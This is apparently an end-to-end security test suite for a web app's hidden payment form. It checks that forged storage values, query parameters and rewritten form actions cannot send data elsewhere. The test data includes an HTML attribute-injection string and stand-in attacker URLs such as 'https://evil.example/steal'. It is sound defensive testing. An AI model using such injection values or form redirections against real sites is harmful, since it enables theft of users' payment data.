import { readdir, readFile } from 'node:fs/promises';
import { join } from 'node:path';
import type { BrowserContext, Page } from 'playwright-core';
import { describe, expect } from 'vitest';
import { formOrigins } from '../../../../src/generated/origins.ts';
import { verifiedSession } from '../../../e2e/support/account.ts';
import { it } from '../../../e2e/support/fixtures.ts';
import { formSent } from '../../../e2e/support/forms.ts';
import type { NewVisitor } from '../../../e2e/support/visitor.ts';
import { ROOT } from '../../../support/root.ts';

const INJECTED = '"><input name="x" value="1"><input name="';
const payment = (page: Page) => page.locator('#pagos li', { hasText: 'NYK' }).getByRole('button').first();

/** Opens a visitor whose browser stores the given session and other entries. */
async function opened(newVisitor: NewVisitor, kept: object, more: Readonly<Record<string, string>> = {}) {
  const visitor = await newVisitor();
  await visitor.context.route(/^https:\/\/[^/?]*example/, (route) => route.fulfill({ body: 'ok' }));
  await visitor.keep({ userData: JSON.stringify(kept), ...more });
  return visitor;
}

/** Submits the payment form; returns its destination and the fields in the order in which they were sent. */
async function posted(context: BrowserContext, page: Page) {
  const request = formSent(context);
  await payment(page).click();
  const sent = await request;
  return { origin: new URL(sent.url()).origin, fields: [...new URLSearchParams(sent.postData() ?? '')] };
}

describe('a hidden form (S-55)', () => {
  it('posts only its listed fields to its own address, whatever is in the storage or in the query', async ({
    newVisitor,
    site,
  }) => {
    const session = await verifiedSession(site, '900000051');
    const foreign = {
      url: 'https://evil.example',
      action: 'https://evil.example',
      fields: [{ name: 'x', value: '1' }],
    };
    const kept = { ...session, ...foreign, nit: INJECTED, nitsistema: INJECTED, PTWEB_NIT: '1', PACCION: 'X' };
    const more = { preferredLine: 'https://evil.example', action: 'https://evil.example' };
    const { page, context, visit, tolerate } = await opened(newVisitor, kept, more);
    // Simulates that the server cannot confirm whose session it is.
    await context.route('**/api/sesion', (route) => route.abort());
    await visit('/tramites-y-consultas?action=https://evil.example&PTWEB_NIT=1&url=//evil.example');
    await expect.poll(() => page.locator('input[name="x"]').count()).toBe(0);
    expect(await posted(context, page)).toEqual({
      origin: formOrigins[0],
      fields: [
        ['PACCION', 'M'],
        ['PTWEB_NIT', INJECTED],
        ['PTWEB_NITSISTEMA', INJECTED],
      ],
    });
    tolerate(/Failed to load resource/);
  });

  it('sends the client of the session, not one that was forged in the storage', {
    tags: ['deep'],
  }, async ({ newVisitor, site }) => {
    const session = await verifiedSession(site, '900000052');
    const { page, context } = await opened(newVisitor, { ...session, nit: '800999999', nitsistema: '1', perfil: 'x' });
    const response = page.waitForResponse('**/api/sesion');
    await page.goto('/tramites-y-consultas');
    await response;
    const kept = () => page.evaluate(() => JSON.parse(localStorage.getItem('userData') ?? '{}'));
    await expect.poll(kept).toEqual(session);
    expect((await posted(context, page)).fields).toEqual([
      ['PACCION', 'M'],
      ['PTWEB_NIT', session.nit],
      ['PTWEB_NITSISTEMA', session.nitsistema],
    ]);
  });

  it('is blocked by the Content Security Policy when its address was changed in the page', { tags: ['deep'] }, async ({
    newVisitor,
    site,
  }) => {
    const { page, context, visit, tolerate, complaints } = await opened(
      newVisitor,
      await verifiedSession(site, '900000053'),
    );
    const asked: string[] = [];
    context.on('request', (request) => asked.push(request.url()));
    await visit('/tramites-y-consultas');
    await payment(page).evaluate((button: HTMLButtonElement) => {
      button.form?.setAttribute('action', 'https://evil.example/steal');
      button.form?.setAttribute('target', '_self');
      button.click();
    });
    await expect
      .poll(() => complaints().join('\n'))
      .toContain('violates the following Content Security Policy directive: "form-action');
    expect(asked.filter((url) => url.includes('evil.example'))).toEqual([]);
    tolerate(/form-action/);
  });
});

it('every form to another site posts to a listed origin and opens new tabs with noopener (S-55)', async () => {
  const folder = join(ROOT, 'dist/site/pages');
  const files = (await readdir(folder, { recursive: true })).filter((name) => name.endsWith('.html'));
  let forms = 0;
  for (const file of files) {
    for (const [form] of (await readFile(join(folder, file), 'utf8')).matchAll(/<form\b[^>]*>/g)) {
      const action = /\saction="([^"]*)"/.exec(form)?.[1];
      if (action === undefined || action.startsWith('/')) continue;
      forms++;
      expect([file, formOrigins.includes(new URL(action).origin), action]).toEqual([file, true, action]);
      expect([file, action.startsWith('https://')]).toEqual([file, true]);
      if (form.includes('target="_blank"')) expect(form).toContain('rel="noopener"');
    }
  }
  expect(forms).toBeGreaterThan(20);
});
